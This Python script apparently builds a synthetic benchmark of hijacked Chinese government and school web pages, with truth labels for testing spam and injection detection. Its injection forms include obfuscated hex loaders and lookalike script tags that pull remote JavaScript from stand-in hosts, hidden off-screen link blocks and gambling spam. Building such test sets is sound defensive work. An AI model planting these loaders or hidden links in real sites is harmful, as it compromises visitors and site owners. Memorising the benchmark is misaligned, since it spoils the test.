"""Generate synthetic-v18: 40 invented gov/edu pages (28 hijacked, 12 clean of which 4 legit).

python3 make_set.py [OUTDIR]      (default ../synthetic-v18)
python3 make_set.py --check       (build twice into temp dirs, compare bytes)

Fixed seed, stdlib only, no clock, no network: re-runs are byte-identical.
Refuses (exit 2) any invented brand / spam string that overlaps (substring either way) a spam_strings entry of
bench/data/dev/*/truth.jsonl or (v18's own folders left out) bench/data/heldout/*/truth.jsonl.
"""
import filecmp
import glob
import html
import json
import os
import random
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from articles import EDU_UNITS, GOV_PLACES, PEOPLE, EDU_SOURCES, GOV_SOURCES, GENERAL, LEGIT  # noqa: E402

SEED = 180418
DATA = os.path.dirname(os.path.dirname(HERE))

# ---------------------------------------------------------------- invented brands and spam lines
BRANDS = ["星槎娱乐", "鹤鸣棋牌", "金蟾真人馆", "瀚海国际娱乐", "凌霄竞猜", "天玑彩站", "北辰电游", "朱雀娱乐城",
          "玲珑棋牌大厅", "赤焰球讯"]
PORN_LINES = ["番茄夜色私密影院", "草莓深夜直播间免费看", "紫薇私房成人片库", "橘猫午间私拍合集"]
NONSENSE = ["伊宁湖区渔业产值", "阿勒泰牧场存栏数", "克拉玛依油田井口", "哈密瓜田灌溉量"]
SEO_KW = ["苏州网页设计", "网站排名优化", "品牌口碑营销", "无锡关键词推广", "全网营销外包"]
SPLICE_URLS = ["https://www.qzmwrk.cn", "https://www.lhtpsv.net", "https://www.bxkdyo.com"]
LOOKALIKE = ["https://gov.ridgemoss.com/jq.min.js", "https://edu.ferncastle.net/common.js"]
INLINE_LINK = [("http://www.zhuque-yule.top", "朱雀娱乐城注册送彩金"), ("http://www.lingxiao-jc.top", "凌霄竞猜足球推荐")]
KW_SUFFIX = ["北辰电游官方下载_电玩捕鱼平台", "天玑彩站开奖直播_彩票计划群"]
SITE_KW = ["瀚海国际娱乐官方入口_真人视讯平台下载", "玲珑棋牌大厅官网_手机棋牌游戏下载"]
HIDDEN_LINKS = [["星槎娱乐", "鹤鸣棋牌", "金蟾真人馆", "赤焰球讯"], ["朱雀娱乐城", "凌霄竞猜", "天玑彩站", "北辰电游"]]


def old_spam():
    out = set()
    pats = ["dev/*/truth.jsonl", "heldout/*/truth.jsonl"]  # v17 was pending-v17/, now dev/
    for pat in pats:
        for f in glob.glob(os.path.join(DATA, pat)):
            if "-v18" in f:  # v18 itself, since it moved to heldout/
                continue
            for line in open(f, encoding="utf-8"):
                if line.strip():
                    out.update(json.loads(line).get("spam_strings") or [])
    return out


def all_invented():
    items = set(BRANDS + PORN_LINES + NONSENSE + SEO_KW + KW_SUFFIX + SITE_KW)
    items.update(t for _, t in INLINE_LINK)
    for hl in HIDDEN_LINKS:
        items.update(hl)
    return sorted(items)


# ---------------------------------------------------------------- templates (L1-L6)
TEMPLATES = {
    "L1": dict(enc="utf-8", name="Gatsby-style static department page"),
    "L2": dict(enc="utf-8", name="Next.js+Strapi-style district news page"),
    "L3": dict(enc="gbk", name="Bolt-CMS-style county page (GBK)"),
    "L4": dict(enc="gb18030", name="Kirby-style school 信息公开 page with a metadata table (GB18030)"),
    "L5": dict(enc="utf-8", name="django-CMS-style college news page (<dl> byline)"),
    "L6": dict(enc="gbk", name="Blogger-style youth-league blog post (GBK)"),
}


def e(s):
    return html.escape(s, quote=False)


def render(t, c):
    """c: dict with site, title_tag, h1, date, source, author, views, paras (html), inj (dict of slots)."""
    inj = c["inj"]
    body_paras = []
    for k, p in enumerate(c["paras"]):
        body_paras.append("<p>%s</p>" % p)
        if k == 0 and inj.get("after_p1"):
            body_paras.append(inj["after_p1"])
    if inj.get("after_text"):
        body_paras.append(inj["after_text"])
    paras = "\n".join(body_paras)
    head = inj.get("head", "")
    top = inj.get("top", "")
    foot = inj.get("footer", "")
    end = inj.get("end", "")
    site = c["site_html"]
    title = e(c["title_tag"])
    h1 = c["h1_html"]
    date, src, au, views = c["date"], e(c["source"] or ""), e(c["author"] or ""), c["views"]
    cs = TEMPLATES[t]["enc"]
    if t == "L1":
        meta = "%s · %s · 来源:%s" % (date, au, src) if au else "%s · 来源:%s" % (date, src)
        return f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="{cs}"><meta name="viewport" content="width=device-width,initial-scale=1"><title>{title}</title>
<link rel="preload" href="/page-data/app-data.json" as="fetch" crossorigin="anonymous">{head}</head><body>
{top}<div id="___gatsby"><div style="outline:none" tabindex="-1" id="gatsby-focus-wrapper">
<header class="Header-module--header"><a class="Header-module--brand" href="/">{site}</a><nav><a href="/news/">新闻</a><a href="/notice/">公告</a></nav></header>
<main><article class="Post-module--post"><h1 class="Post-module--title">{h1}</h1>
<p class="Post-module--meta"><time datetime="{date}">{meta}</time></p>
<div class="Post-module--body">
{paras}
</div></article></main>
<footer class="Footer-module--footer">{site} 版权所有{foot}</footer></div></div>
<script id="gatsby-chunk-mapping">window.___chunkMapping={{}};</script>{end}</body></html>
"""
    if t == "L2":
        au_html = '<span data-testid="author">作者:%s</span>' % au if au else ""
        return f"""<!DOCTYPE html><html lang="zh"><head><meta charSet="{cs}"/><title>{title}</title><meta name="next-head-count" content="3"/>{head}</head><body>
{top}<div id="__next"><div class="layout_wrapper__x1"><header class="header_bar__k2"><span class="header_logo__q9">{site}</span></header>
<div class="breadcrumb_nav__m3"><a href="/">首页</a> / <a href="/news">区县动态</a></div>
<article class="article_main__z7"><h1 class="article_title__p0">{h1}</h1>
<div class="article_meta__r4"><span data-testid="date">发布时间:{date}</span><span data-testid="source">来源:{src}</span>{au_html}<span data-testid="views">浏览次数:{views}</span></div>
<div class="article_content__c8">
{paras}
</div></article>
<footer class="footer_root__f1">主办单位:{site}{foot}</footer></div></div>
<script id="__NEXT_DATA__" type="application/json">{{"props":{{"pageProps":{{}}}},"page":"/news/[id]","buildId":"b18"}}</script>{end}</body></html>
"""
    if t == "L3":
        au_html = " 编辑:%s" % au if au else ""
        return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=gbk" /><title>{title}</title>
<link rel="stylesheet" href="/theme/county/css/theme.css" />{head}</head><body class="bolt-record">
{top}<div class="wrap"><div class="top-banner"><h2 class="sitename">{site}</h2></div>
<div class="menu"><a href="/">首页</a><a href="/page/zwdt">政务动态</a><a href="/page/gsgg">公示公告</a></div>
<div class="record"><h1 class="record-title">{h1}</h1>
<div class="record-meta">日期:{date} 来源:{src}{au_html} 点击:{views}</div>
<div class="record-body">
{paras}
</div></div>
<div class="copyright">{site} 主办{foot}</div></div>{end}</body></html>
"""
    if t == "L4":
        return f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=gb18030"><title>{title}</title>{head}</head><body>
{top}<div class="kirby-site"><div class="site-head">{site}</div><div class="crumb">您的位置:首页 &gt; 信息公开 &gt; 工作动态</div>
<table class="xxgk-meta" border="1" cellspacing="0"><tr><td>索引号</td><td>XG-{views:05d}-2024</td><td>发布机构</td><td>{src}</td></tr>
<tr><td>发布日期</td><td>{date}</td><td>主题分类</td><td>工作动态</td></tr><tr><td>名称</td><td colspan="3">{c["h1_plain"]}</td></tr></table>
<h1 class="xxgk-title">{h1}</h1>
<div class="xxgk-text">
{paras}
</div>
<div class="xxgk-after">信息来源:{src}　责任编辑:{e(c["editor"])}　访问量:{views}</div>
<div class="site-foot">{site}{foot}</div></div>{end}</body></html>
"""
    if t == "L5":
        au_html = "<dt>发布者</dt><dd>%s</dd>" % au if au else ""
        return f"""<!DOCTYPE html><html lang="zh-hans"><head><meta charset="{cs}"><title>{title}</title>
<link rel="stylesheet" href="/static/djangocms_text_ckeditor/css/cms.css">{head}</head><body>
{top}<div class="cms-container"><div class="navbar-brand">{site}</div><ul class="nav"><li class="child selected"><a href="/news/">学院新闻</a></li></ul>
<div class="blog-detail"><h1>{h1}</h1>
<dl class="post-detail">{au_html}<dt>发布日期</dt><dd>{date}</dd><dt>来源</dt><dd>{src}</dd><dt>浏览</dt><dd>{views}</dd></dl>
<div class="blog-content"><div class="cms-plugin cms-plugin-text">
{paras}
</div></div></div>
<footer>{site}{foot}</footer></div>{end}</body></html>
"""
    # L6
    au_html = "作者:%s · " % au if au else ""
    y, m, d = date.split("-")
    return f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=gbk"><title>{title}</title>
<meta content="blogger" name="generator"/>{head}</head><body class="variant-simple">
{top}<div class="content-outer"><header><div class="header-inner"><h1 class="title">{site}</h1><p class="description">共青团工作动态</p></div></header>
<div class="main-inner"><div class="date-outer"><h2 class="date-header"><span>{int(y)}年{int(m)}月{int(d)}日</span></h2>
<div class="post-outer"><div class="post hentry"><h3 class="post-title entry-title">{h1}</h3>
<div class="post-body entry-content">
{paras}
</div>
<div class="post-footer">{au_html}发表于 {date} · 来源:{src} · 阅读 {views}</div></div></div></div></div>
<footer class="footer-outer">{site}{foot}</footer></div>{end}</body></html>
"""


# ---------------------------------------------------------------- forms
FORMS = [
    # name, modelled on (real-cases-v18 id), templates for its two pages
    ("brand_replaces_unit", "rc18-001", ("L5", "L3")),
    ("nonsense_word_swap", "rc18-002", ("L1", "L4")),
    ("seo_keyword_links", "rc18-005", ("L2", "L6")),
    ("porn_keyword_title_line", "rc18-006/rc18-018", ("L3", "L5")),
    ("brand_title_prefix_and_source", "rc18-007", ("L4", "L2")),
    ("keyword_title_suffix", "rc18-008", ("L6", "L1")),
    ("url_spliced_in_word", "rc18-009", ("L1", "L3")),
    ("random_tags_and_keyword_site_name", "rc18-010", ("L2", "L5")),
    ("mirror_gloss_commas", "rc18-011/012/013", ("L4", "L6")),
    ("inline_spam_link", "rc18-014", ("L5", "L2")),
    ("colon_hex_loader", "rc18-015", ("L3", "L1")),
    ("hex_array_loader_head", "rc18-016", ("L6", "L4")),
    ("lookalike_external_script", "rc18-017", ("L1", "L5")),
    ("hidden_link_block", "classic (KEEPER.md form list)", ("L4", "L2")),
]

GLOSS = {"区": "區(qū)", "动": "動(dòng)", "开": "開(kāi)", "会": "會(huì)", "学": "學(xué)", "这": "這(zhè)",
         "场": "場(chǎng)", "务": "務(wù)", "时": "時(shí)", "织": "織(zhī)", "导": "導(dǎo)", "实": "實(shí)"}
TRAD = {"为": "為", "师": "師", "组": "組", "进": "進", "们": "們", "们": "們", "过": "過", "现": "現", "对": "對",
        "与": "與", "长": "長", "员": "員", "关": "關", "问": "問", "题": "題", "发": "發", "展": "展", "全": "全",
        "体": "體", "习": "習", "级": "級", "农": "農", "业": "業", "经": "經", "传": "傳", "统": "統", "计": "計",
        "报": "報", "讲": "講", "话": "話", "设": "設", "置": "置", "应": "應", "急": "急", "领": "領", "单": "單",
        "位": "位", "县": "縣", "镇": "鎮", "乡": "鄉", "闻": "聞", "园": "園", "校": "校", "将": "將", "机": "機"}


def gloss(text):
    out = []
    for ch in text:
        if ch in GLOSS:
            out.append(GLOSS[ch])
        else:
            out.append(TRAD.get(ch, ch))
    s = "".join(out)
    return s.replace(",", ",,", 2).replace("。", ",。", 1)


HEX_PAYLOAD = ":".join("%x" % (ord(ch) - 7) for ch in "function lp(){var s=document.createElement('script');s.src='//cdn.ridgemoss.com/t.js';document.head.appendChild(s)}lp();")


def hex_array(s):
    return "".join("\\x%02X" % b for b in s.encode("ascii"))


def build(outdir):
    rnd = random.Random(SEED)
    olds = old_spam()
    clash = [(b, o) for b in all_invented() for o in olds if b in o or o in b]
    if clash:
        for b, o in clash:
            print("overlap:", b, "<->", o, file=sys.stderr)
        sys.exit(2)

    # plan: 28 hijacked (form x 2) + 8 clean general + 4 legit clean
    plan = []
    for fi, (form, model, tpls) in enumerate(FORMS):
        for k in range(2):
            plan.append(("hij", form, model, tpls[k], k))
    clean_tpls = ["L1", "L2", "L3", "L4", "L5", "L6", "L1", "L3"]
    for k in range(8):
        plan.append(("clean", None, None, clean_tpls[k], k))
    legit_tpls = ["L2", "L4", "L5", "L6"]
    for k in range(4):
        plan.append(("legit", None, None, legit_tpls[k], k))
    rnd.shuffle(plan)

    os.makedirs(os.path.join(outdir, "html"), exist_ok=True)
    rows = []
    gen_cycle = list(range(len(GENERAL)))
    for n, (kind, form, model, t, k) in enumerate(plan, 1):
        pid = "syn18-%03d" % n
        if kind == "legit":
            art = LEGIT[k]
        else:
            art = GENERAL[gen_cycle[(n * 7) % len(gen_cycle)]]
        edu = art["kind"] == "edu"
        unit = rnd.choice(EDU_UNITS) if edu else rnd.choice(GOV_PLACES)
        src = rnd.choice(EDU_SOURCES if edu else GOV_SOURCES)
        n1 = rnd.choice(PEOPLE)
        author = rnd.choice(PEOPLE) if t not in ("L4",) and rnd.random() < 0.8 else None
        editor = rnd.choice(PEOPLE)
        if t == "L4":
            author = None  # L4 shows only a 责任编辑 (editor), no author
        month, day = rnd.randint(1, 12), rnd.randint(1, 26)
        year = rnd.choice([2023, 2024, 2025])
        date = "%d-%02d-%02d" % (year, month, min(day + 2, 28))
        fill = dict(u=unit, p=unit, m=month, d=day, d2=day + 6, n1=n1)
        title = art["title"].format(**fill)
        paras = [p.format(**fill) for p in art["paras"]]
        source_truth = ("%s%s" % (unit, src)) if not edu else src
        site = unit if not edu else unit
        views = rnd.randint(80, 4000)
        c = dict(site_html=e(site), title_tag=title + " - " + site, h1_html=e(title), h1_plain=e(title),
                 date=date, source=source_truth, author=author, views=views, editor=editor,
                 paras=[e(p) for p in paras], inj={})
        truth = dict(title=title, source=source_truth, author=author, text="\n".join(paras))
        spam, evidence, inj_names = [], [], []
        hijacked = kind == "hij"
        if hijacked:
            inj_names = [form]
            if form == "brand_replaces_unit":
                b = BRANDS[k]
                shown = [p.replace(unit, b) for p in paras]
                c["paras"] = [e(p) for p in shown]
                c["site_html"] = e(b)
                c["title_tag"] = title.replace(unit, b) + " - " + b
                c["h1_html"] = e(title)
                truth["text"] = "\n".join(p.replace(b, "") for p in shown)
                spam = [b]
            elif form == "nonsense_word_swap":
                w = NONSENSE[k]
                shown = [p.replace(unit, unit + w, 1) if i == 0 else p.replace(unit, w) for i, p in enumerate(paras)]
                c["paras"] = [e(p) for p in shown]
                truth["text"] = "\n".join(p.replace(w, "") for p in shown)
                spam = [w]
            elif form == "seo_keyword_links":
                kws = SEO_KW[k * 2:k * 2 + 3]
                p0 = paras[1]
                parts = p0.split(",")
                out = []
                for i, part in enumerate(parts):
                    out.append(e(part))
                    if i < len(kws):
                        out.append('\n<a href="https://www.seo-%d.cn/">%s</a>\n' % (k, e(kws[i])))
                c["paras"][1] = ",".join(out)
                spam = kws
            elif form == "porn_keyword_title_line":
                line = "_".join(PORN_LINES[k * 2:k * 2 + 2])
                c["title_tag"] = line
                c["inj"]["top"] = '<div class="kw-line">%s</div>' % e(line)
                spam = PORN_LINES[k * 2:k * 2 + 2]
            elif form == "brand_title_prefix_and_source":
                b = BRANDS[2 + k]
                c["h1_html"] = e(b + "阅读" + title)
                c["title_tag"] = b + "阅读" + title
                c["source"] = b
                truth["title"] = None
                truth["source"] = None
                spam = [b]
            elif form == "keyword_title_suffix":
                suf = KW_SUFFIX[k]
                c["title_tag"] = title + "_" + suf
                c["h1_html"] = e(title + "_" + suf)
                spam = [suf]
            elif form == "url_spliced_in_word":
                u = SPLICE_URLS[k]
                p = paras[1]
                cut = len(p) // 2
                c["paras"][1] = e(p[:cut] + u + " ," + p[cut:])
                spam = [u]
            elif form == "random_tags_and_keyword_site_name":
                kw = SITE_KW[k]
                tags = "".join('<%s %s="%s"></%s>' % (tg, at, "".join(rnd.choice("abcdefghjkmnpqrstuvwxyz0123456789_") for _ in range(3)), tg)
                               for tg, at in [("abbr", "lang"), ("acronym", "draggable"), ("strong", "dropzone"), ("map", "lang"), ("em", "dir")])
                c["inj"]["top"] = tags
                c["site_html"] = e(kw)
                c["title_tag"] = title + "-" + kw
                spam = [kw]
                evidence = [tags[:40]]
            elif form == "mirror_gloss_commas":
                shown = [gloss(p) for p in paras]
                stitle = gloss(title)
                c["paras"] = [e(p) for p in shown]
                c["h1_html"] = e(stitle)
                c["h1_plain"] = e(stitle)
                c["title_tag"] = stitle
                truth["title"] = stitle
                truth["text"] = "\n".join(shown)
                truth["source"] = None
                c["source"] = gloss(source_truth)
                evidence = [g for g in GLOSS.values() if g in "".join(shown)][:2]
                inj_names = [form, "copy_on_unrelated_host"]
            elif form == "inline_spam_link":
                href, txt = INLINE_LINK[k]
                p = paras[2]
                cut = p.find(",") + 1 or len(p) // 2
                c["paras"][2] = e(p[:cut]) + ' <a href="%s">%s</a> ' % (href, e(txt)) + e(p[cut:])
                spam = [txt]
            elif form == "colon_hex_loader":
                js = 'xq=document;pz="spl"+"it";wv=window;try{--(xq["body"])}catch(er){if(1){vh="%s";}}' % HEX_PAYLOAD
                slot = "end" if k == 0 else "head"
                c["inj"][slot] = "<script>%s</script>" % js
                evidence = ['xq=document;pz="spl"+"it"']
            elif form == "hex_array_loader_head":
                arr = ",".join('"%s"' % hex_array(x) for x in ["createElement", "script", "//edu.ferncastle.net/c.js", "appendChild"])
                js = "var _0x%04x=[%s];" % (0x5a1c + k, arr)
                c["inj"]["head"] = '<script type="text/javascript">%s</script>' % js
                evidence = ["var _0x%04x=[" % (0x5a1c + k)]
            elif form == "lookalike_external_script":
                tag = '<script src="%s"></script>' % LOOKALIKE[k]
                c["inj"]["head" if k == 0 else "end"] = tag
                evidence = [tag]
            elif form == "hidden_link_block":
                links = "".join('<a href="http://www.%s.top/">%s</a>' % ("x%d%d" % (k, i), e(b)) for i, b in enumerate(HIDDEN_LINKS[k]))
                if k == 0:
                    c["inj"]["after_text"] = '<div style="display:none">%s</div>' % links
                else:
                    c["inj"]["footer"] = '<div style="position:absolute;left:-9999px;top:-9999px">%s</div>' % links
                spam = list(HIDDEN_LINKS[k])
        page = render(t, c)
        data = page.encode(TEMPLATES[t]["enc"], errors="xmlcharrefreplace")
        with open(os.path.join(outdir, "html", pid + ".html"), "wb") as f:
            f.write(data)
        legit = kind == "legit"
        rows.append(dict(
            id=pid, url="https://www.%s.example.cn/news/%d/%s.html" % ("edu" if edu else "gov", year, pid),
            title=truth["title"], date=date, source=truth["source"], author=truth["author"], text=truth["text"],
            hijacked=hijacked, injections=inj_names, spam_strings=spam, legit=legit, lang="zh",
            origin=("synthetic, form modelled on %s" % model) if hijacked else ("synthetic, legit %s article" % art["kind"] if legit else "synthetic, clean %s article" % art["kind"]),
            kind="synthetic", site=site, capture="html", encoding=TEMPLATES[t]["enc"], template=t, evidence=evidence,
        ))
    with open(os.path.join(outdir, "truth.jsonl"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    with open(os.path.join(HERE, "brands.json"), "w", encoding="utf-8") as f:
        json.dump(all_invented(), f, ensure_ascii=False, indent=0)
        f.write("\n")
    return rows


def main():
    if "--check" in sys.argv:
        a, b = tempfile.mkdtemp(), tempfile.mkdtemp()
        build(a)
        build(b)
        cmp = filecmp.dircmp(a, b)
        same = not cmp.diff_files and all(filecmp.cmp(os.path.join(a, "html", x), os.path.join(b, "html", x), shallow=False)
                                           for x in os.listdir(os.path.join(a, "html")))
        print("byte-identical" if same else "DIFFERENT")
        sys.exit(0 if same else 1)
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(HERE), "synthetic-v18")
    rows = build(out)
    print(len(rows), "pages,", sum(r["hijacked"] for r in rows), "hijacked,", sum(r["legit"] for r in rows), "legit")


if __name__ == "__main__":
    main()
